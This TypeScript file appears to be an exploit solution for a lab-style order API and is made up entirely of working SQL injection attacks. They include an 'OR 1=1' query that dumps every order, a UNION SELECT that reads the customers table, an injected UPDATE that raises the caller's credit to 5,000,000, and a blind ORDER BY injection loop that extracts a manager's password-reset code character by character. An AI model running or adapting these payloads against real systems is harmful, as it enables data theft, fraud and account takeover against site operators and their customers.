import { request } from 'ounce:client';

interface Me {
  name: string;
  key: string;
}

async function send(me: Me, method: string, url: string, body?: unknown): Promise<any> {
  const response = await request({ method, url, headers: { 'x-key': me.key }, body });
  return response.status === 200 ? JSON.parse(response.body) : `${response.status} ${response.body}`;
}

const search = (me: Me, item: string): Promise<any> => send(me, 'GET', `/orders?item=${encodeURIComponent(item)}`);
const report = (me: Me, sort: string): Promise<any> => send(me, 'GET', `/report?sort=${encodeURIComponent(sort)}`);

export async function readOrders(me: Me): Promise<unknown> {
  return search(me, `' OR 1=1 --`);
}

export async function readKey(me: Me): Promise<unknown> {
  return search(me, `none' UNION ALL SELECT * FROM customers --`);
}

export async function raiseCredit(me: Me): Promise<void> {
  await send(me, 'PUT', '/settings', { language: `en'', credit = 5000000 WHERE key = '${me.key}' --` });
}
export async function readCode(me: Me): Promise<unknown> {
  let code = '';
  for (let place = 1; place <= 16; place++) {
    for (const digit of '0123456789abcdef') {
      const asked = `(SELECT count(*) FROM staff WHERE role = 'manager' AND substr(reset_code, ${place}, 1) = '${digit}')`;
      const [first, second] = await report(me, `CASE ${asked} WHEN 1 THEN status END DESC, status`);
      if (first.status > second.status) code += digit;
    }
  }
  return code;
}
